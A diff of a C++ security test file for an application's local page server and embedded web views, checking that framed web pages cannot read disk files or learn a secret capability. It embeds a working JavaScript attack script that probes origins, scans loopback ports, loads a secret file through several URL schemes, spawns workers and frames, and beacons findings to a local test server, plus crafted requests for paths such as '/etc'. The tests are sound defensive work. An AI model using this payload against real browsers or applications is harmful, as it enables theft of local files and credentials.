@@ -24,6 +24,7 @@
 #include <QMainWindow>
 #include <QProcess>
 #include <QRandomGenerator>
+#include <QRegularExpression>
 #include <QSignalSpy>
 #include <QStatusBar>
 #include <QTcpServer>
@@ -32,6 +33,7 @@
 #include <QTest>
 
 #include <algorithm>
+#include <cctype>
 #include <functional>
 
 #include <sys/stat.h>
@@ -64,8 +66,10 @@ public:
     QString address() const { return QStringLiteral("http://127.0.0.1:%1").arg(_server.serverPort()); }
     quint16 port() const { return _server.serverPort(); }
     QStringList paths;
-    QByteArray page;            // "/page.html"
-    QHash<QString, QByteArray> pages;  // any other page, by path
+    QList<QByteArray> requests;        // each whole, with its headers
+    QByteArray page;                   // "/page.html"
+    QHash<QString, QByteArray> pages;  // any other page, by path (with its query, or without)
+    QHash<QString, QByteArray> headers;  // more header lines of a page, by path without query
 
 private:
     void answer(QTcpSocket* socket) {
@@ -73,6 +77,8 @@ private:
         request += socket->readAll();
         if (!request.contains("\r\n\r\n")) return;
         const QString path = QString::fromLatin1(request.split(' ').value(1));
+        const QString bare = path.section('?', 0, 0);
+        requests.append(request);
         _requests.remove(socket);
         paths.append(path);
         QByteArray type = "text/plain", body = "ok";
@@ -81,8 +87,9 @@ private:
         else if (path == QLatin1String("/cdn.png")) type = "image/png", body = pixel;
         else if (path == QLatin1String("/page.html")) type = "text/html", body = page;
         else if (pages.contains(path)) type = "text/html", body = pages.value(path);
+        else if (pages.contains(bare)) type = "text/html", body = pages.value(bare);
         socket->write("HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\nContent-Length: " + QByteArray::number(body.size()) +
-                      "\r\nConnection: close\r\n\r\n" + body);
+                      "\r\n" + headers.value(bare) + "Connection: close\r\n\r\n" + body);
         socket->disconnectFromHost();
     }
     QTcpServer _server;
@@ -146,12 +153,12 @@ window.onload = function () {
 
 // The peer a page from the disk is held to: what Chromium, headless, shows as the title of
 // address once the page's scripts ran (empty when it could not run).
-QString chromiumTitle(const QString& address) {
+QString chromiumTitle(const QString& address, int budget = 5000) {
     QTemporaryDir profile;
     QProcess chromium;
     chromium.start(QStringLiteral("chromium"),
                    {"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-                    "--disable-component-update", "--disable-sync", "--user-data-dir=" + profile.path(), "--virtual-time-budget=5000",
+                    "--disable-component-update", "--disable-sync", "--user-data-dir=" + profile.path(), "--virtual-time-budget=" + QString::number(budget),
                     "--dump-dom", address});
     // The event loop turns while it runs: the test's site answers it.
     if (!QTest::qWaitFor([&] { return chromium.state() == QProcess::NotRunning; }, 120000)) chromium.kill();
@@ -491,8 +498,8 @@ TEST(PageTrust, APageFromTheDiskReadsOfOtherFilesWhatChromiumLetsAFilePageRead) 
     welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
 }
 
-// What serves a page from the disk its files answers no one but the views: not another program
-// of this machine, which has no key.
+// What serves a page from the disk its files answers no one who does not hold the capability of
+// its address: not another program of this machine, nor a page that names the server.
 TEST(PageTrust, TheFilesOfAPageFromTheDiskGoOnlyToItsView) {
     if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
     TestDir dir;
@@ -501,33 +508,41 @@ TEST(PageTrust, TheFilesOfAPageFromTheDiskGoOnlyToItsView) {
     QVHelpWindowController::sharedInstance().showPage(QUrl::fromLocalFile(secret));
     const QList<quint16> servers = loopbackPortsListening();
     ASSERT_FALSE(servers.isEmpty());
-    const QByteArray get = "GET " + QUrl::toPercentEncoding(secret, "/") + " HTTP/1.1\r\nHost: 127.0.0.1\r\n";
+    const QByteArray path = QUrl::toPercentEncoding(secret, "/");
     struct Row {
         const char* name;
-        QByteArray request;
+        QByteArray target;
     };
     const QList<Row> rows{
-        {"no key", get + "\r\n"},
-        {"a wrong key", get + "Qorvel-Page-Key: 00112233445566778899aabbccddeeff\r\n\r\n"},
-        {"an empty key", get + "Qorvel-Page-Key:\r\n\r\n"},
+        {"the path alone", path},
+        {"a wrong capability", "/00112233445566778899aabbccddeeff" + path},
+        {"the scheme's name for a host", "/local" + path},
+        {"a path of one step", "/etc"},
     };
     for (const quint16 port : servers)
-        for (const Row& row : rows) EXPECT_EQ(answerTo(port, row.request), "HTTP/1.1 403 Forbidden") << row.name << " on port " << port;
+        for (const Row& row : rows)
+            EXPECT_EQ(answerTo(port, "GET " + row.target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nQorvel-Page-Key: 00\r\n\r\n"), "HTTP/1.1 403 Forbidden")
+                << row.name << " on port " << port;
 
-    // An image named by its address there: a page from the disk shows it, a web page does not.
+    // An image named by its address there gets nothing, from a web page or from a page from the
+    // disk (as Chromium gives nothing to either on file:); the page's own name for it shows.
     ASSERT_EQ(servers.size(), 1);
     Site site;
     const QString image = dir.write("image.png", pixel);
-    site.page = "<html><head><title>loading</title></head><body><img src='http://127.0.0.1:" + QByteArray::number(servers.first()) +
-                QUrl::toPercentEncoding(image, "/") + "' onload=\"document.title = 'shown'\" onerror=\"document.title = 'refused'\"></body></html>";
-    const QUrl diskPage = QUrl::fromLocalFile(dir.write("probe.html", site.page));
+    const auto probe = [](const QByteArray& address) {
+        return "<html><head><title>loading</title></head><body><img src='" + address +
+               "' onload=\"document.title = 'shown'\" onerror=\"document.title = 'refused'\"></body></html>";
+    };
+    site.page = probe("http://127.0.0.1:" + QByteArray::number(servers.first()) + QUrl::toPercentEncoding(image, "/"));
     QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
     struct Page {
         const char* name;
         QUrl address;
         QString title;
     };
-    for (const Page& page : QList<Page>{{"a web page", QUrl(site.address() + "/page.html"), "refused"}, {"a page from the disk", diskPage, "shown"}}) {
+    for (const Page& page : QList<Page>{{"a web page", QUrl(site.address() + "/page.html"), "refused"},
+                                        {"a page from the disk, by the server's address", QUrl::fromLocalFile(dir.write("server.html", site.page)), "refused"},
+                                        {"a page from the disk, by its own name", QUrl::fromLocalFile(dir.write("own.html", probe("image.png"))), "shown"}}) {
         QSignalSpy titles(help.webView(), &QVWebView::titleChanged);
         help.showPage(page.address);
         EXPECT_TRUE(QTest::qWaitFor(
@@ -799,7 +814,7 @@ time.sleep(120)
     };
     for (const Blocking& row : QList<Blocking>{{"/proc/kmsg", "/proc/kmsg"}, {"a FIFO", fifo}, {"/dev/zero", "/dev/zero"}, {"/proc/self/stat", "/proc/self/stat"}}) {
         SCOPED_TRACE(row.name);
-        const QByteArray address = "qvfile://local" + QUrl::toPercentEncoding(row.path, "/");
+        const QByteArray address = QUrl::toPercentEncoding(row.path, "/");
         const QUrl page = QUrl::fromLocalFile(dir.write("blocking-" + QFileInfo(row.path).fileName() + ".html", "<html><head><title>loading</title></head><body><iframe src='" + address +
                                                                              "'></iframe><img src='" + address +
                                                                              "' onload=\"document.title = 'image'\" onerror=\"document.title = 'error'\"></body></html>"));
@@ -833,4 +848,332 @@ a.onerror = function () { document.title = 'error'; };
     EXPECT_EQ(settledTitle(titles, {"seeked", "error"}), peer.isEmpty() ? QStringLiteral("seeked to 2 of 3") : peer);
     EXPECT_EQ(peer, "seeked to 2 of 3");
     help.close();
+}
+
+namespace {
+
+// What every document a web page makes runs, as a web frame inside a page from the disk: it
+// reports what it can learn of the page that holds it (its referrer, its ancestors' origins, its
+// window's name, its base, the addresses of what it loaded), then asks for another project's
+// script by every name it has: the file's own, the page scheme's (with its old host and any host
+// it learned), and the page file server's, at the port handed over and at each port of a scan,
+// with and without what it learned as the first step. The scan tries ports of loopback among
+// which the server's is, not told which (ports just closed: others on a shared machine may hold
+// a connection for ever); a worker scans the first four. A script that ran is a request for /read-... at the site; /ran-<kind>
+// says it is done. Each document starts three dedicated workers that do the same, with what it
+// learned, each for a third of the addresses; the outer page makes the four frames of no site,
+// or sends itself to data:.
+const char* const attackScript = R"js(function qvAttack(kind, inherited, part) {
+  var SITE = '@SITE@', PORT = @PORT@, SCAN = [@SCAN@], CONFIG = '@CONFIG@', PARTS = 3;
+  var inWorker = typeof document === 'undefined';
+  function beacon(what) { fetch(SITE + '/' + what, {mode: 'no-cors'}).catch(function () {}); }
+  var learned = [];
+  function learn(f) { try { var v = f(); if (v) learned.push(String(v)); } catch (e) {} }
+  if (!inWorker) {
+    learn(function () { return document.referrer; });
+    learn(function () { return Array.from(location.ancestorOrigins).join(' '); });
+    learn(function () { return window.name; });
+    learn(function () { return document.baseURI; });
+  }
+  learn(function () { return performance.getEntries().map(function (e) { return e.name; }).join(' '); });
+  beacon('learned-' + kind + '?' + encodeURIComponent(learned.join(' ')));
+  var steps = ['local'].concat(inherited || []);
+  learned.join(' ').split(/\s+/).forEach(function (word) {
+    var m = /^[a-z-]+:\/\/([^\/?#]+)/.exec(word);
+    if (m && steps.indexOf(m[1]) < 0) steps.push(m[1]);
+  });
+  var addresses = ['file://' + CONFIG, 'http://127.0.0.1:' + PORT + CONFIG];
+  steps.forEach(function (step) {
+    addresses.push('qv' + 'file://' + step + CONFIG);
+    addresses.push('http://127.0.0.1:' + PORT + '/' + step + CONFIG);
+  });
+  // A worker's loads wait on each other, and each takes a while: a worker scans the first ports
+  // alone, the server's among them.
+  SCAN.slice(0, inWorker ? 4 : SCAN.length).forEach(function (p) {
+    addresses.push('http://127.0.0.1:' + p + '/local' + CONFIG, 'http://127.0.0.1:' + p + CONFIG);
+  });
+  function caught(address) {
+    if (self.stolen !== 'QVSECRET') return;
+    self.stolen = undefined;
+    beacon('read-' + kind + '-' + encodeURIComponent(address));
+  }
+  if (inWorker) {
+    addresses.forEach(function (address, i) {
+      if (i % PARTS !== part) return;
+      try { importScripts(address); } catch (e) {}
+      caught(address);
+    });
+    return beacon('ran-' + kind);
+  }
+  var left = addresses.length;
+  addresses.forEach(function (address) {
+    var s = document.createElement('script');
+    s.src = address;
+    s.onload = s.onerror = function () { caught(address); if (--left === 0) beacon('ran-' + kind); };
+    document.head.appendChild(s);
+  });
+  var code = '(' + qvAttack.toString() + ')';
+  for (var n = 0; n < PARTS; ++n) {
+    var start = code + '("worker-' + kind + '-' + n + '", ' + JSON.stringify(steps) + ', ' + n + ')';
+    try {
+      new Worker(URL.createObjectURL(new Blob([start], {type: 'text/javascript'})));
+    } catch (e) {
+      try { new Worker('data:text/javascript,' + encodeURIComponent(start)); } catch (e2) { beacon('no-worker-' + kind); }
+    }
+  }
+  if (kind !== 'outer') return;
+  function doc(k) { return '<html><head></head><body><script>' + code + '("' + k + '")<\/script></body></html>'; }
+  function frame(sandboxed, set) {
+    var f = document.createElement('iframe');
+    if (sandboxed) f.sandbox = 'allow-scripts';
+    set(f);
+    document.body.appendChild(f);
+  }
+  frame(true, function (f) { f.srcdoc = doc('srcdoc'); });
+  frame(false, function (f) { f.src = 'data:text/html,' + encodeURIComponent(doc('data')); });
+  frame(true, function (f) { f.src = URL.createObjectURL(new Blob([doc('blob')], {type: 'text/html'})); });
+  frame(true, function (f) { f.src = 'data:text/html,' + encodeURIComponent(doc('sandboxed-data')); });
+})js";
+
+// The kinds of document that report they ran, each with its worker.
+QStringList attackKinds() {
+    QStringList kinds;
+    for (const char* kind : {"outer", "srcdoc", "data", "blob", "sandboxed-data", "self"}) {
+        kinds << kind;
+        for (int part = 0; part < 3; ++part) kinds << QStringLiteral("worker-%1-%2").arg(QLatin1String(kind)).arg(part);
+    }
+    return kinds;
+}
+
+struct Framing {
+    const char* name;  // the test's
+    const char* frame;  // the disk page's frame element: @SRC@ is the web page's address
+    const char* outer;  // the path of the web page framed
+    bool nested;        // the web page is framed by another web page, itself framed by the disk page
+};
+
+// The web page a disk page frames, and what it makes, in Chromium on file: and in each view that
+// shows pages from the disk: none reads a file, none learns the page scheme's address.
+void framedWebDocumentsInside(const Framing& framing, QLatin1String only) {
+    Site site;
+    TestDir dir;
+    QVIntegratedPreviewController::install();
+    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
+    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
+    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
+    // A page from the disk first: the page file server listens from the first view made.
+    help.showPage(QUrl::fromLocalFile(dir.write("first.html", "<title>first</title>")));
+    const quint16 port = pageFileServerPort({site.port()});
+    ASSERT_NE(port, 0);
+    const QString config = dir.write("other/config.js", "self.stolen = 'QVSECRET';");
+    // The server's port is among the first four, which a worker scans too.
+    QList<QByteArray> scan{QByteArray::number(port), QByteArray::number(site.port())};
+    for (int i = 0; i < 8; ++i) {
+        QTcpServer closed;
+        closed.listen(QHostAddress::LocalHost);
+        scan.insert(QRandomGenerator::global()->bounded(int(scan.size()) + 1), QByteArray::number(closed.serverPort()));
+    }
+    scan.move(scan.indexOf(QByteArray::number(port)), QRandomGenerator::global()->bounded(4));
+    const QByteArray attack = QByteArray(attackScript)
+                                  .replace("@SITE@", site.address().toUtf8())
+                                  .replace("@PORT@", QByteArray::number(port))
+                                  .replace("@SCAN@", scan.join(", "))
+                                  .replace("@CONFIG@", QUrl::toPercentEncoding(config, "/"));
+    const QByteArray outer = "<html><head></head><body><script>" + attack +
+                             "\nif (location.search === '?self') location = 'data:text/html,' + encodeURIComponent('<html><head></head><body><script>(' + "
+                             "qvAttack.toString() + ')(\"self\")<\\/script></body></html>');\nelse qvAttack('outer');\n</script></body></html>";
+    site.pages.insert("/outer.html", outer);
+    site.pages.insert("/outer-csp.html", outer);
+    site.headers.insert("/outer-csp.html", "Content-Security-Policy: sandbox allow-scripts\r\n");
+    const auto frames = [&](const QByteArray& element) {
+        const QByteArray src = site.address().toUtf8() + framing.outer;
+        return QByteArray(element).replace("@SRC@", src) + QByteArray(element).replace("@SRC@", src + "?self");
+    };
+    site.pages.insert("/nest.html", "<html><body>" + frames("<iframe src='@SRC@'></iframe>") + "</body></html>");
+    const QByteArray inside = framing.nested ? QByteArray(framing.frame).replace("@SRC@", site.address().toUtf8() + "/nest.html")
+                                             : frames(framing.frame);
+    const QUrl page = QUrl::fromLocalFile(dir.write("site/index.html", "<html><head><title>framing</title></head><body>" + inside + "</body></html>"));
+
+    const QStringList kinds = attackKinds();
+    const auto ran = [&] {
+        QStringList done;
+        for (const QString& kind : kinds)
+            if (site.paths.contains("/ran-" + kind)) done << kind;
+        return done;
+    };
+    const auto reads = [&] { return site.paths.filter(QRegularExpression(QStringLiteral("^/read-"))); };
+    // Any request to the site that names the page scheme or holds what could be the capability
+    // (the attack spells the scheme in two pieces; a blob's name breaks its hex with dashes).
+    const QRegularExpression capabilityLike(QStringLiteral("[0-9a-f]{32}"));
+    const auto told = [&] {
+        QStringList found;
+        for (const QByteArray& request : site.requests)
+            if (request.contains("qvfile") || capabilityLike.match(QString::fromLatin1(request)).hasMatch())
+                found << QString::fromUtf8(request.left(request.indexOf("\r\n\r\n")));
+        return found;
+    };
+
+    // Chromium on file: is the peer: its documents run and read nothing. Its budget of time may
+    // end before a last worker reports: every document that did run is one Qorvel's must run too.
+    site.paths.clear();
+    site.requests.clear();
+    chromiumTitle(page.toString(), 20000);
+    const QStringList peerRan = ran();
+    EXPECT_TRUE(peerRan.contains(QStringLiteral("srcdoc")) && peerRan.contains(QStringLiteral("self"))) << peerRan.join(' ').toStdString();
+    EXPECT_EQ(reads(), QStringList());
+    EXPECT_EQ(told(), QStringList());
+
+    struct View {
+        const char* name;
+        QMainWindow* window;
+        QVWebView* view;
+        std::function<void()> show;
+    };
+    const QList<View> views = {
+        {"preview", &preview, preview.webView(), [&] { preview.showURL(page.toString()); }},
+        {"help", &help, help.webView(), [&] { help.showPage(page); }},
+        {"welcome", &welcome, welcome.infoWebView(),
+         [&] {
+             welcome.show();
+             welcome.infoWebView()->load(page);
+         }},
+    };
+    for (const View& v : views) {
+        if (QLatin1String(v.name) != only) continue;
+        SCOPED_TRACE(v.name);
+        site.paths.clear();
+        site.requests.clear();
+        v.show();
+        EXPECT_TRUE(QTest::qWaitFor([&] { return ran().size() == kinds.size(); }, 120000))
+            << "ran " << ran().join(' ').toStdString() << "; " << site.paths.filter(QRegularExpression(QStringLiteral("^/no-worker"))).join(' ').toStdString();
+        for (const QString& kind : peerRan) EXPECT_TRUE(ran().contains(kind)) << kind.toStdString();
+        QTest::qWait(300);
+        EXPECT_EQ(reads(), QStringList());
+        EXPECT_EQ(told(), QStringList());
+        EXPECT_EQ(v.view->url(), page);
+        v.window->close();
+    }
+}
+
+}  // namespace
+
+struct FramingRow {
+    Framing framing;
+    const char* view;
+};
+
+class WebDocumentsInsideADiskPage : public ::testing::TestWithParam<FramingRow> {};
+
+TEST_P(WebDocumentsInsideADiskPage, ReadNoFileAndLearnNoCapability) {
+    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
+    framedWebDocumentsInside(GetParam().framing, QLatin1String(GetParam().view));
+}
+
+namespace {
+
+constexpr Framing plainFrame{"Framed", "<iframe src='@SRC@'></iframe>", "/outer.html", false};
+constexpr Framing sandboxedFrame{"SandboxedByTheDiskPage", "<iframe sandbox='allow-scripts' src='@SRC@'></iframe>", "/outer.html", false};
+constexpr Framing cspFrame{"SandboxedByItsHeader", "<iframe src='@SRC@'></iframe>", "/outer-csp.html", false};
+constexpr Framing nestedFrame{"NestedTwoDeep", "<iframe src='@SRC@'></iframe>", "/outer.html", true};
+
+std::vector<FramingRow> framingRows() {
+    std::vector<FramingRow> rows;
+    for (const Framing& framing : {plainFrame, sandboxedFrame, cspFrame, nestedFrame})
+        for (const char* view : {"preview", "help", "welcome"}) rows.push_back({framing, view});
+    return rows;
+}
+
+}  // namespace
+
+INSTANTIATE_TEST_SUITE_P(PageTrust, WebDocumentsInsideADiskPage, ::testing::ValuesIn(framingRows()),
+                         [](const ::testing::TestParamInfo<FramingRow>& row) {
+                             std::string view = row.param.view;
+                             view[0] = char(std::toupper(view[0]));
+                             return std::string(row.param.framing.name) + "In" + view;
+                         });
+
+// What a page from the disk is made of loads in every view that shows one as Chromium shows the
+// page on file:, load events and all: images, scripts, stylesheets, fonts, its own sandboxed
+// frame of a file and what that shows; an ES module refused; a frame of a missing file still
+// loads (Chromium shows its error there), as does a frame of a text file; text in UTF-8 with no
+// charset declared reads as UTF-8.
+TEST(PageTrust, APageFromTheDiskIsMadeOfItsFilesAsChromiumShowsItOnFile) {
+    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
+    TestDir dir;
+    dir.write("parts/own.css", "body { color: rgb(1, 2, 3); }");
+    dir.write("parts/own.js", "window.ownScript = true;");
+    dir.write("parts/module.js", "window.ownModule = true;");
+    dir.write("parts/own.png", pixel);
+    dir.write("parts/café.txt", "na\xc3\xafve");
+    QFile font(QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
+    ASSERT_TRUE(font.open(QIODevice::ReadOnly)) << "fonts-dejavu-core is missing";
+    dir.write("parts/font.ttf", font.readAll());
+    dir.write("parts/frame.html", "<html><body><img src='own.png' onload=\"parent.postMessage('sandboxed frame image load', '*')\" "
+                                  "onerror=\"parent.postMessage('sandboxed frame image error', '*')\"></body></html>");
+    const QString pagePath = dir.write("page.html", R"page(<!DOCTYPE html><html><head><title>loading</title>
+<link rel="stylesheet" href="parts/own.css" onload="ev('stylesheet load')" onerror="ev('stylesheet error')">
+<style>@font-face { font-family: Own; src: url(parts/font.ttf); }</style>
+<script src="parts/own.js" onload="ev('script load')" onerror="ev('script error')"></script>
+<script type="module" src="parts/module.js" onload="ev('module load')" onerror="ev('module error')"></script>
+<script>
+var events = [];
+function ev(e) { events.push(e); }
+window.addEventListener('message', function (e) { ev(String(e.data)); });
+window.onload = function () {
+  ev('window load');
+  var text = document.getElementById('text');
+  setTimeout(function () {
+    document.fonts.load('16px Own').then(function (fonts) { ev(fonts.length ? 'font load' : 'no font'); }, function () { ev('font error'); })
+      .finally(function () {
+        var t = '';
+        try { t = ' ' + document.getElementById('plain').contentDocument.body.textContent; } catch (e) { t = ' ' + e.name; }
+        document.title = 'done ' + JSON.stringify({events: events.sort(), charset: document.characterSet, text: text.textContent,
+          color: getComputedStyle(document.body).color, script: !!window.ownScript, module: !!window.ownModule});
+      });
+  }, 500);
+};
+</script></head><body><p id="text">café</p><p style="font-family: Own">font</p>
+<img src="parts/own.png" onload="ev('image load')" onerror="ev('image error')">
+<iframe sandbox="allow-scripts" src="parts/frame.html" onload="ev('sandboxed frame load')"></iframe>
+<iframe src="parts/missing.html" onload="ev('missing frame load')"></iframe>
+<iframe id="plain" src="parts/caf%C3%A9.txt" onload="ev('text frame load')"></iframe>
+</body></html>)page");
+    const QUrl page = QUrl::fromLocalFile(pagePath);
+    const QString peer = chromiumTitle(page.toString());
+    ASSERT_TRUE(peer.startsWith(QLatin1String("done "))) << peer.toStdString();
+    // The peer's answer, checked for what it must hold so that a change of it shows.
+    const QJsonObject peerParts = QJsonDocument::fromJson(peer.mid(5).toUtf8()).object();
+    EXPECT_EQ(peerParts.value("text").toString(), QString::fromUtf8("café"));
+    EXPECT_TRUE(peerParts.value("events").toArray().contains("missing frame load")) << peer.toStdString();
+    EXPECT_TRUE(peerParts.value("events").toArray().contains("module error")) << peer.toStdString();
+    // One difference: a sandboxed frame of a file is of no origin in both, and Chromium gives it
+    // no file of its own; Qorvel cannot tell its requests from the page's, and gives it the
+    // page's (no web document is either).
+    ASSERT_TRUE(peerParts.value("events").toArray().contains("sandboxed frame image error")) << peer.toStdString();
+    const QString expected = QString(peer).replace(QLatin1String("sandboxed frame image error"), QLatin1String("sandboxed frame image load"));
+
+    QVIntegratedPreviewController::install();
+    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
+    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
+    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
+    struct View {
+        const char* name;
+        QMainWindow* window;
+        QVWebView* view;
+        std::function<void()> show;
+    };
+    for (const View& v : QList<View>{{"preview", &preview, preview.webView(), [&] { preview.showURL(page.toString()); }},
+                                     {"help", &help, help.webView(), [&] { help.showPage(page); }},
+                                     {"welcome", &welcome, welcome.infoWebView(),
+                                      [&] {
+                                          welcome.show();
+                                          welcome.infoWebView()->load(page);
+                                      }}}) {
+        SCOPED_TRACE(v.name);
+        QSignalSpy titles(v.view, &QVWebView::titleChanged);
+        v.show();
+        EXPECT_EQ(settledTitle(titles, {"done "}), expected);
+        v.window->close();
+    }
+    welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
 }
